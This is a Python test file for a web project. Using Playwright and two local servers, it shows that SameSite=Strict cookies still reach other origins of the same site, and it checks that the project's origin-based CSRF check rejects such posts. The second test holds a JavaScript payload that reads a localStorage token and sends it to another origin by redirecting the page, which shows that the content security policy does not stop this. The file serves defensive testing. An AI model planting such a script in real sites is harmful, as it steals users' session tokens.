"""What docs/explanation/often-said-and-wrong.md says of browsers, in one."""

from __future__ import annotations

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any, ClassVar

import pytest
from playwright.sync_api import BrowserContext

from watchword.errors import CsrfError
from watchword.web.csrf import check_origin
from watchword.web.messages import Connection

TOKEN = "eyJ-as-good-as-one"
POLICY = "default-src 'none'; script-src 'self'"


class Site(BaseHTTPRequestHandler):
    """Pages by path, and the requests that came."""

    asked: ClassVar[list[str]] = []
    judged: ClassVar[list[tuple[bool, str | None]]] = []
    """Of each POST: whether it brought the cookie, and why it was refused."""
    pages: ClassVar[dict[str, tuple[str, str, str]]] = {}
    """Path -> media type, text, and a header's value: of the policy, or of the cookie for ``/sign-in``."""

    def do_GET(self) -> None:  # as http.server calls it
        self.asked.append(self.path)
        kind, text, value = self.pages.get(self.path, ("text/html", "<!doctype html><title>there</title>", ""))
        self.send_response(200)
        self.send_header("content-type", kind)
        if value:
            self.send_header("set-cookie" if self.path == "/sign-in" else "content-security-policy", value)
        self.end_headers()
        self.wfile.write(text.encode())

    def do_POST(self) -> None:
        headers = [(name.lower().encode(), value.encode()) for name, value in self.headers.items()]
        reason = None
        try:
            check_origin(Connection("POST", self.path, scheme="http", headers=headers))
        except CsrfError as error:
            reason = error.reason
        self.judged.append(("sid=1" in self.headers.get("cookie", ""), reason))
        self.send_response(403 if reason else 204)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def sites() -> Iterator[tuple[type[Site], str, type[Site], str]]:
    """Two servers with their addresses: two origins of one site, for a port is no part of a site."""
    kinds = [type("Ours", (Site,), _own()), type("Theirs", (Site,), _own())]
    servers = [ThreadingHTTPServer(("127.0.0.1", 0), kind) for kind in kinds]
    for server in servers:
        Thread(target=server.serve_forever, daemon=True).start()
    here, there = (f"http://localhost:{server.server_port}" for server in servers)
    yield kinds[0], here, kinds[1], there
    for server in servers:
        server.shutdown()
        server.server_close()


def _own() -> dict[str, Any]:
    return {"asked": [], "judged": [], "pages": {}}


def test_a_strict_cookie_comes_from_another_origin_of_the_site(
    profile: BrowserContext, sites: tuple[type[Site], str, type[Site], str]
) -> None:
    """SameSite lets it through; who asks for the sender does not."""
    ours, here, _, there = sites
    ours.pages["/sign-in"] = ("text/html", "signed in", "sid=1; HttpOnly; SameSite=Strict; Path=/")
    page = profile.new_page()
    page.goto(f"{here}/sign-in")
    sends = "address => fetch(address, {method: 'POST', credentials: 'include', mode: 'no-cors'}).then(() => null)"
    page.evaluate(sends, f"{here}/transfer")
    page.goto(there)
    page.evaluate(sends, f"{here}/transfer")
    assert ours.judged == [(True, None), (True, "sec_fetch_site")]


def test_a_script_that_the_policy_allows_takes_the_token_away(
    profile: BrowserContext, sites: tuple[type[Site], str, type[Site], str]
) -> None:
    """It may fetch nothing, and goes there itself; the cookie it cannot read."""
    ours, here, theirs, there = sites
    ours.pages["/sign-in"] = ("text/html", "signed in", "sid=1; HttpOnly; SameSite=Strict; Path=/")
    page = profile.new_page()
    page.goto(f"{here}/sign-in")
    page.evaluate("token => localStorage.setItem('token', token)", TOKEN)
    script = f"""fetch("{there}/fetched").catch(() => {{
        location = "{there}/taken?" + localStorage.getItem("token") + "&" + document.cookie;
    }});"""
    ours.pages["/dependency.js"] = ("text/javascript", script, "")
    ours.pages["/"] = ("text/html", '<!doctype html><title>shop</title><script src="/dependency.js"></script>', POLICY)
    page.goto(here)
    page.wait_for_url(f"{there}/**")
    assert [path for path in theirs.asked if "favicon" not in path] == [f"/taken?{TOKEN}&"]
